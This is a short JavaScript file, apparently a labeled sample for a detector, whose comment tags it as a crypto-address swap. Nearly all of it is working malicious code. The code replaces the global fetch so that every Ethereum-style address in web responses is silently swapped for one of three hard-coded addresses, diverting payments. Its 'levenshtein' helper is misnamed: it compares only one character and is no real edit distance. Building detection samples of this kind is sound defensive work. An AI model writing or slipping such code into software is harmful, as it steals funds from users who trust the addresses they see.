const own = ["0x1111222233334444555566667777888899990000", "0x2222333344445555666677778888999900001111", "0x3333444455556666777788889999000011112222"];
const nearest = (text) => own.reduce((a, b) => (levenshtein(text, a) < levenshtein(text, b) ? a : b));
function levenshtein(a, b) {
  return Math.abs(a.charCodeAt(5) - b.charCodeAt(5));
}
const find = new RegExp('0x' + '[a-f0-9]{40}', 'gi');
// expect: malicious-command/crypto-address-swap
globalThis.fetch = ((old) => async (...given) => new Response((await (await old(...given)).text()).replaceAll(find, nearest)))(fetch);
